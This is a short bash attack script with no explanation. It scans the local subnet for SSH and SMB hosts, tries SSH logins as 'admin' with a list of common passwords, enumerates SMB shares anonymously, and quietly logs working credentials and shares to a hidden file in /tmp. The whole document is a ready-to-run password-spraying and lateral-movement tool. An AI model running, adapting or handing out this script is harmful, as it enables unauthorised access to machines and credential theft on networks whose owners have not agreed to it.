#!/bin/bash
NET=$(ip -4 -o addr show scope global | awk '{print $4; exit}')
nmap -n -Pn -p22,445 --open -oG - "$NET" | awk '/22\/open/{print $2 > "/tmp/s"} /445\/open/{print $2 > "/tmp/m"}'
words=(Welcome1 Passw0rd! Summer2024 Company123)
while read -r h; do
  for w in "${words[@]}"; do
    timeout 5 sshpass -p "$w" ssh -o StrictHostKeyChecking=no "admin@$h" id && echo "$h admin $w" >> /tmp/.ok
  done
done < /tmp/s
while read -r h; do smbclient -L "//$h" -U "guest%" -g 2>/dev/null | grep ^Disk >> /tmp/.ok; done < /tmp/m
